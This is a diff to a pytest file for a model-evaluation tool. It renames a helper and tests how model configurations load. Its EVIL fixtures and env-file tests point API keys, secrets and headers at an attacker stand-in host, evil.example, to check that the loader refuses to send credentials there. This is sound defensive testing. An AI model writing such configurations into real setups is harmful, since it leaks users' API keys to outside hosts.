@@ -3,9 +3,9 @@ from __future__ import annotations
 from pathlib import Path
 
 import pytest
+from tests.servers import connect
 
 from answerkey.models.config import Caller, CustomConfig, Generation, InferenceConfig, ModelConfig
-from answerkey.models.connections import connect
 from answerkey.models.model import open_model
 from answerkey.spec import Options, Plan, load_plan
 
@@ -54,14 +54,14 @@ def refusal_of(loaded: Plan) -> tuple[str, str, str | None]:
     return error.code, str(error.where), error.hint
 
 
-def own(config: str, more: str = "") -> str:
+def define(config: str, more: str = "") -> str:
     """Return the `models` of a run file with one model, `own`."""
     return f"models:\n  - key: own\n    display_name: Own\n    config: {config}\n{more}"
 
 
 def test_a_model_of_the_file_can_be_asked(project: Write) -> None:
     """Limits, generation and connection of a model file are those of the connection."""
-    text = own(
+    text = define(
         "{url: 'http://127.0.0.1:8000/v1', model_key: m, api_key: $MY_KEY}",
         "    rate_limit: 30\n    max_concurrent_requests: 4\n"
         "    generation: {temperature: 0, max_tokens: 5, stop: [a, b]}\n",
@@ -79,7 +79,7 @@ def test_anything_else_stands_in_extra_body(project: Write) -> None:
 
     The nearest wins.
     """
-    text = own(
+    text = define(
         "{url: 'http://127.0.0.1/v1'}",
         "    generation: {seed: 20, reasoning_effort: low, extra_body: {a: 1, b: [x]}}\n"
         "    extra_body: {a: 2, chat_template_kwargs: {enable_thinking: false}}\n",
@@ -91,7 +91,7 @@ def test_anything_else_stands_in_extra_body(project: Write) -> None:
 
 def test_a_parameter_that_the_api_lacks_is_found_at_load(project: Write) -> None:
     """The error names the API and the parameter, and has the place of the model."""
-    text = own("{url: 'http://127.0.0.1/v1', api: anthropic}", "    generation: {seed: 1}\n")
+    text = define("{url: 'http://127.0.0.1/v1', api: anthropic}", "    generation: {seed: 1}\n")
     (error,) = load(project, text, "own").errors
     assert (error.code, str(error.where)) == ("E108", "run.yaml:4:19")
     assert error.message == "model `own`: the API `anthropic` does not take `seed`"
@@ -99,7 +99,7 @@ def test_a_parameter_that_the_api_lacks_is_found_at_load(project: Write) -> None
 
 def test_generation_of_a_specification_wins(project: Write) -> None:
     """What a task specification sets wins over the model, parameter by parameter."""
-    text = own("{url: 'http://127.0.0.1/v1'}", "    generation: {temperature: 1, seed: 3}\n")
+    text = define("{url: 'http://127.0.0.1/v1'}", "    generation: {temperature: 1, seed: 3}\n")
     model = model_of(load(project, text, "own", more="      generation: {temperature: 0}\n"))
     assert model.generation == Generation(temperature=0, seed=3)
 
@@ -110,7 +110,7 @@ def test_provider_models(project: Write) -> None:
     model = model_of(load(project, f"models:\n  - {entry}\n", "openai$gpt-4"))
     assert connect(model).url == "http://127.0.0.1:9/v1/completions"
     config = "connection_type: provider_connection, provider_id: anthropic, model_key: claude"
-    connection = connect(model_of(load(project, own(f"{{{config}, api_key: x}}"), "own")))
+    connection = connect(model_of(load(project, define(f"{{{config}, api_key: x}}"), "own")))
     assert (connection.url, connection.model) == ("https://api.anthropic.com/v1/messages", "claude")
 
 
@@ -118,16 +118,16 @@ def test_names_need_no_definition(project: Write) -> None:
     """A provider's model or a URL can be named in a task specification, and by the caller."""
     assert model_of(load(project, "", "openai/gpt-4?seed=1")).generation == Generation(seed=1)
     assert connect(model_of(load(project, "", "http://127.0.0.1:8000/v1#m"))).model == "m"
-    named = Options(model="https://lab.example/v1#m")
-    assert connect(model_of(load(project, "", "builtin/random", overrides=named))).model == "m"
+    overrides = Options(model="https://lab.example/v1#m")
+    assert connect(model_of(load(project, "", "builtin/random", overrides=overrides))).model == "m"
 
 
 def test_adapters_of_the_file(project: Write) -> None:
     """A model finds its adapter, in its config or beside it; the built-in ones need none."""
     adapter = ADAPTER % "{language: jinja, source_code: '{{ input | tojson }}'}"
     for text in (
-        own("{url: 'http://127.0.0.1/ask', adapter: {key: mine}}"),
-        own("{url: 'http://127.0.0.1/ask'}", "    adapter: {key: mine}\n"),
+        define("{url: 'http://127.0.0.1/ask', adapter: {key: mine}}"),
+        define("{url: 'http://127.0.0.1/ask'}", "    adapter: {key: mine}\n"),
     ):
         model = model_of(load(project, text + adapter, "own"))
         assert isinstance(model.config, CustomConfig)
@@ -135,7 +135,7 @@ def test_adapters_of_the_file(project: Write) -> None:
         expected = {"messages": [{"role": "user", "content": "q"}]}
         assert connect(model).build([{"role": "user", "content": "q"}]) == expected
     for name in ("identity", "openai_chat_completion", "openai"):
-        text = own(f"{{url: 'http://127.0.0.1/ask', adapter: {{key: latticeflow${name}}}}}")
+        text = define(f"{{url: 'http://127.0.0.1/ask', adapter: {{key: latticeflow${name}}}}}")
         model = model_of(load(project, text, "own"))
         assert isinstance(model.config, CustomConfig)
         assert model.config.adapter is None
@@ -167,12 +167,12 @@ def test_a_model_that_cannot_be_asked_is_told_where_it_is_defined(
 
     Placeholders, embeddings; a snippet without its function; shown keys.
     """
-    assert refusal_of(load(project, own(config, more), "own"))[:2] == (code, f"run.yaml:{place}")
+    assert refusal_of(load(project, define(config, more), "own"))[:2] == (code, f"run.yaml:{place}")
 
 
 def test_snippets_of_models_need_trust(project: Write) -> None:
     """The snippet of a model is among those that the caller must trust; it is checked, not run."""
-    text = own("{connection_type: custom_inference, snippet: 'def infer(messages): return 1'}")
+    text = define("{connection_type: custom_inference, snippet: 'def infer(messages): return 1'}")
     loaded = load(project, text, "own")
     assert isinstance(model_of(loaded).config, InferenceConfig)
     assert [snippet.function for snippet in loaded.jobs[0].snippets] == ["infer"]
@@ -182,26 +182,26 @@ def test_certificates(project: Write) -> None:
     """Certificates of one's own can be trusted; none need be shown at all is refused."""
     project().joinpath("ca.pem").write_text(CERTIFICATE, encoding="utf-8")
     context = "{validation_context: {trusted_ca: !include ca.pem}}"
-    text = own(f"{{url: 'https://127.0.0.1/v1', tls_context: {context}}}")
+    text = define(f"{{url: 'https://127.0.0.1/v1', tls_context: {context}}}")
     assert connect(model_of(load(project, text, "own"))).trusted_ca == CERTIFICATE
     (error,) = load(project, text.replace("!include ca.pem", "nonsense"), "own").errors
-    assert (error.code, "`trusted_ca` holds no certificate" in error.message) == ("E108", True)
+    assert (error.code, "`trusted_ca` contains no" in error.message) == ("E108", True)
     for word, errors in (("verify_trust_chain", []), ("accept_untrusted", ["E116"])):
         context = f"{{validation_context: {{trust_chain_verification: {word}}}}}"
-        text = own(f"{{url: 'https://127.0.0.1/v1', tls_context: {context}}}")
+        text = define(f"{{url: 'https://127.0.0.1/v1', tls_context: {context}}}")
         assert [error.code for error in load(project, text, "own").errors] == errors
 
 
 SECRET = "{url: 'https://evil.example/v1', api_key: << secrets.A >>}"  # noqa: S105 - its name
 EVIL = [
-    own("{url: 'https://evil.example/v1', api_key: $OPENAI_API_KEY}"),
-    own("{url: 'https://evil.example/v1', api_key: << secrets.MY_KEY >>}"),
-    own("{url: 'https://evil.example/v1', custom_headers: {X-Key: '${MY_KEY}'}}"),
-    own("{url: 'https://evil.example/v1', custom_headers: {X-Key: $OPENAI_API_KEY/x}}"),
-    own(SECRET, "secrets: {A: $OPENAI_API_KEY}\n"),
-    own(SECRET, "secrets: [{key: A, value: $MY_KEY}]\n"),
-    own(PROVIDER % "m, base_url: 'https://evil.example/v1'"),
-    own("{url: '${START}@evil.example/v1', api_key: $OPENAI_API_KEY}").replace("@", "."),
+    define("{url: 'https://evil.example/v1', api_key: $OPENAI_API_KEY}"),
+    define("{url: 'https://evil.example/v1', api_key: << secrets.MY_KEY >>}"),
+    define("{url: 'https://evil.example/v1', custom_headers: {X-Key: '${MY_KEY}'}}"),
+    define("{url: 'https://evil.example/v1', custom_headers: {X-Key: $OPENAI_API_KEY/x}}"),
+    define(SECRET, "secrets: {A: $OPENAI_API_KEY}\n"),
+    define(SECRET, "secrets: [{key: A, value: $MY_KEY}]\n"),
+    define(PROVIDER % "m, base_url: 'https://evil.example/v1'"),
+    define("{url: '${START}@evil.example/v1', api_key: $OPENAI_API_KEY}").replace("@", "."),
 ]
 
 
@@ -226,7 +226,7 @@ def test_hosts_of_the_environment_are_the_callers(project: Write, environ: dict[
     """`url: $MY_URL` is a host that the caller named, also with a path behind it."""
     environ["MY_URL"] = "https://lab.example"
     for url in ("$MY_URL", "${MY_URL}/v1"):
-        text = own(f"{{url: '{url}', api_key: $MY_KEY}}")
+        text = define(f"{{url: '{url}', api_key: $MY_KEY}}")
         assert connect(model_of(load(project, text, "own"))).host == "lab.example"
 
 
@@ -238,7 +238,7 @@ def test_the_env_file_is_the_projects_word(project: Write, environ: dict[str, st
     evil = "OPENAI_BASE_URL=https://evil.example/v1\n"
     env.write_text(f"{evil}MY_URL=https://evil.example/v1\n")
     assert refusal_of(load(project, "", "openai/m"))[0] == "E117"
-    by_url = own("{url: $MY_URL, api_key: $MY_KEY}")
+    by_url = define("{url: $MY_URL, api_key: $MY_KEY}")
     assert refusal_of(load(project, by_url, "own"))[0] == "E117"
     env.write_text(f"{evil}OPENAI_API_KEY=theirs-0123\nANSWERKEY_ALLOW_HOSTS=evil.example\n")
     assert refusal_of(load(project, "", "openai/m"))[0] == "E117"
@@ -258,12 +258,12 @@ def test_an_env_file_outside_the_project_is_the_callers(
     overrides = Options(env=file)
     expected = "lab.example"
     assert connect(model_of(load(project, "", "openai/m", overrides=overrides))).host == expected
-    text = own("{url: 'https://evil.example/v1', api_key: $MY_KEY}")
+    text = define("{url: 'https://evil.example/v1', api_key: $MY_KEY}")
     assert refusal_of(load(project, text, "own", overrides=overrides))[0] == "E117"
 
 
 def test_open_model_takes_what_a_plan_holds(project: Write) -> None:
     """The model of a specification can be opened as it is."""
-    model = model_of(load(project, own("{url: 'http://127.0.0.1:8000/v1'}"), "own"))
+    model = model_of(load(project, define("{url: 'http://127.0.0.1:8000/v1'}"), "own"))
     assert open_model(model).name == "own"
     assert isinstance(model.caller, Caller)
